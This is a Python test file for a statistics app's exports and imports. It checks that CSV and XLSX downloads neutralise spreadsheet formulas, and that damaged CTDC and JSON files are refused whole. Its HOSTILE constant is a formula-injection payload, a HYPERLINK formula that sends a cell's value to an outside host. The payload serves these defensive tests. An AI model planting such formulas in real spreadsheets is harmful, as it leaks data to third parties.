"""Statistics files: every CSV and XLSX written is guarded against formulas; every CTDC file is
imported whole or refused whole with a reason, from the command line and from the page's worker."""

from __future__ import annotations

import io
import itertools
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import login_client
from strom.audit.actors import STATISTICS
from strom.audit.models import AuditEntry
from strom.core.tests.mutations import mutated, records_in
from strom.stats import engine, htcds, synthetic, tables
from strom.stats import export as stats_export
from strom.stats.ctdc import ImportRejected
from strom.stats.models import AggregateCell, Dataset, DatasetKind, Fact, ImportJob, ImportState
from strom.stats.refresh import facts_refresh
from strom.stats.services import ctdc_import, table_import
from strom.stats.tasks import run_import_job
from strom.stats.tests.helpers import full_case
from strom.stats.tests.test_aggregate import LATVIA, national_file
from strom.stats.tests.test_ctdc import GOOD_ROWS, ctdc_file
from strom.stats.tests.test_synthetic import code
from tests.personas import Cast

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("https://example.org/?"&B2,"Open")'


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


# -- every writer guards its text ------------------------------------------------------------------
# The statistics hold value names from fixed lists, so a hostile text is put where the names come
# from: what is checked is that each file goes out through the guarded writer.


@pytest.fixture
def hostile_names(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (tables, synthetic):
        original: Callable[..., str] = module.value_name
        monkeypatch.setattr(module, "value_name", lambda *a, _o=original, **k: HOSTILE + _o(*a, **k))
    # The downloads for people show labels.
    label: Callable[..., str] = engine.value_label
    monkeypatch.setattr(tables, "value_label", lambda *a, _o=label, **k: HOSTILE + _o(*a, **k))


@pytest.fixture
def women(cast: Cast, exact_counts: None) -> None:
    for _ in range(12):
        full_case(cast, gender="Feminine", exploited_in="", rg_after_days=5)  # presumed victims
    facts_refresh()


def guarded_csv(text: str) -> None:
    values = {value for record in records_in(text.split("\n#", 1)[0].encode()) for value in record.values()}
    assert any(value.startswith("'" + HOSTILE) for value in values), values
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@")]


def test_the_table_download_csv_is_guarded(cast: Cast, women: None, hostile_names: None) -> None:
    client = login_client(cast.users["supervisor_a"])
    guarded_csv(client.get("/stats/table.csv", {"by1": "gender"}).content.decode())


def test_the_table_command_csv_is_guarded(women: None, hostile_names: None, capsys: Any) -> None:
    call_command("stats", "table", "--by", "gender", "--format", "csv")
    guarded_csv(capsys.readouterr().out)


def test_the_table_download_xlsx_has_text_cells_that_stay_text(
    cast: Cast, women: None, hostile_names: None
) -> None:
    client = login_client(cast.users["supervisor_a"])
    book = load_workbook(io.BytesIO(client.get("/stats/table.xlsx", {"by1": "gender"}).content))
    _header, first = list(book["table"].iter_rows(max_row=2))
    name, count = first[:2]
    assert name.value.startswith(HOSTILE)
    assert (name.data_type, name.quotePrefix) == ("s", True)
    assert (count.value, count.data_type) == (12, "n")


def exported(tmp_path: Path, *args: str) -> str:
    """Run `strom stats ARGS --out FILE` and return the file."""
    out = tmp_path / "export.csv"
    call_command("stats", *args, "--out", str(out), stderr=io.StringIO())
    return out.read_text(encoding="utf-8")


def test_the_eurostat_export_is_guarded(women: None, hostile_names: None, tmp_path: Path) -> None:
    guarded_csv(exported(tmp_path, "export", "eurostat"))


def test_the_ctdc_export_is_guarded(women: None, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(stats_export.CTDC_GENDER, "Feminine", HOSTILE)
    guarded_csv(exported(tmp_path, "export", "ctdc", "--k", "2"))


def test_the_htcds_csv_export_is_guarded_and_keeps_numbers(
    cast: Cast, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from strom.stats.tests.test_htcds import revealing_case

    revealing_case(cast)
    original = htcds._csv_value
    monkeypatch.setattr(htcds, "_csv_value", lambda v: HOSTILE if isinstance(v, str) and v else original(v))
    guarded_csv(exported(tmp_path, "export", "htcds"))
    assert original(-3) == -3


def test_the_synthetic_extract_is_guarded(hostile_names: None, settings: Any, tmp_path: Path) -> None:
    settings.STROM_STATS_DP_BUDGET = 10.0
    dataset = Dataset.objects.create(name="survey", kind=DatasetKind.CTDC, rows=30)
    Fact.objects.bulk_create(
        Fact(dataset=dataset, year=2020, gender=code("gender", "Feminine"), child=code("child", "Adult"))
        for _ in range(30)
    )
    args = ("synthetic", "--dataset", "survey", "--by", "gender,child", "--epsilon", "1", "--rows", "5")
    guarded_csv(exported(tmp_path, *args))


# -- CTDC files that used to crash or pass -----------------------------------------------------------

GOOD = ctdc_file(GOOD_ROWS)
ROW = ",".join(GOOD_ROWS[0])
BAD_FILES = {
    "latin-1": (GOOD + "2019,Female,18--20,Adult,UA,PL,0,1,0,,,,,,Ž\n".encode("iso8859_2"), 5, "not UTF-8"),
    "utf-16 without its mark": (GOOD.decode().encode("utf-16-le"), 1, "NUL character"),
    "nul": (GOOD + ROW.replace("Female", "Fe\x00male").encode() + b"\n", 5, "NUL character"),
    "200 KB value": (GOOD + ROW.replace("Female", "x" * 200_000).encode() + b"\n", 5, "longer than"),
    "cut off in a quote": (GOOD + b'2019,"Female,18--20\n', 5, "ends inside a quoted value"),
    "full-width year": (
        GOOD + ROW.replace("2019", "\uff12\uff10\uff11\uff19").encode() + b"\n",
        5,
        "digits 0-9",
    ),
    "ragged": (GOOD + b"2019,Female\n", 5, "has 2 values; the header has 15"),
}


def unchanged() -> tuple[int, int, int, int]:
    counts = (Dataset.objects.count(), Fact.objects.count(), AggregateCell.objects.count())
    return (*counts, AuditEntry.objects.count())


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_the_command_refuses_a_damaged_ctdc_file_whole(name: str, tmp_path: Path) -> None:
    data, row, why = BAD_FILES[name]
    path = tmp_path / "ctdc.csv"
    path.write_bytes(data)
    before = unchanged()
    errors = io.StringIO()
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("import", "ctdc", str(path), "--dataset", "damaged", "--no-progress", stderr=errors)
    assert f"row {row}" in errors.getvalue()
    assert why in errors.getvalue()
    assert unchanged() == before


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_the_worker_refuses_a_damaged_upload_with_the_reason(cast: Cast, name: str) -> None:
    data, row, why = BAD_FILES[name]
    job = ImportJob.objects.create(
        dataset_name="uploaded", file_name="f.csv", content=data, created_by=cast.users["analyst_a"]
    )
    before = unchanged()
    run_import_job(job)
    job.refresh_from_db()
    assert job.state == ImportState.FAILED
    assert any(e["row"] == row and why in e["why"] for e in job.errors), job.errors
    assert unchanged() == before


def test_utf16_with_its_mark_and_semicolons_are_read(cast: Cast) -> None:
    dataset = ctdc_import(by=STATISTICS, data=GOOD.decode().encode("utf-16"), dataset_name="utf16")
    assert dataset.rows == 3
    semicolons = GOOD.decode().replace(",", ";").encode()
    assert ctdc_import(by=STATISTICS, data=semicolons, dataset_name="semicolons").rows == 3


# -- property: any damage, never a crash, never half an import --------------------------------------

names = (f"mutated-{n}" for n in itertools.count())


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=mutated(ctdc_file([*GOOD_ROWS, ["2021", "Female", "48+", "Adult", "LV", "LV", *[""] * 9]])))
def test_any_damaged_ctdc_file_is_imported_whole_or_refused_whole(db: None, data: bytes) -> None:
    before = unchanged()
    try:
        dataset = ctdc_import(by=STATISTICS, data=data, dataset_name=next(names))
    except ImportRejected as exc:
        refused = exc.errors
    else:
        refused = []
    event("refused" if refused else "imported")
    if refused:
        assert unchanged() == before
        return
    records = records_in(data)
    assert dataset.rows == len(records) == Fact.objects.count() - before[1]


# -- the table exchange file (JSON) goes through the same checks --------------------------------------


def test_a_table_file_with_a_nul_or_nested_too_deeply_is_refused(db: None, settings: Any) -> None:
    base = json.loads(national_file(settings, "Latvia", LATVIA))
    for damaged in (
        json.dumps({**base, "source": "Lat\u0000via"}).encode(),
        json.dumps({**base, "datasets": ["x\u0000"]}).encode(),
        b"[" * 100_000 + b"]" * 100_000,
    ):
        before = unchanged()
        with pytest.raises(ImportRejected) as caught:
            table_import(by=STATISTICS, data=damaged, dataset_name="damaged")
        assert caught.value.errors[0].why in (
            "The file holds a NUL character (\\u0000).",
            "The file is nested too deeply to be a table exchange file.",
        )
        assert unchanged() == before


TABLE_FILES: dict[str, bytes] = {}


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(draw=st.data())
def test_any_damaged_table_file_is_imported_whole_or_refused_whole(
    db: None, settings: Any, draw: st.DataObject
) -> None:
    if "latvia" not in TABLE_FILES:  # made once: making it imports the national dataset
        TABLE_FILES["latvia"] = national_file(settings, "Latvia", LATVIA)
    base = TABLE_FILES["latvia"]
    data = draw.draw(mutated(base) | mutated(base).map(lambda d: d.replace(b'"', b'"\\u0000', 1)))
    before = unchanged()
    try:
        dataset = table_import(by=STATISTICS, data=data, dataset_name=next(names))
    except ImportRejected as exc:
        refused = exc.errors
    else:
        refused = []
    event("refused" if refused else "imported")
    if refused:
        assert unchanged() == before
        return
    document = json.loads(data)
    assert dataset.cells.count() == len(document["cells"]) + len(document["totals"])
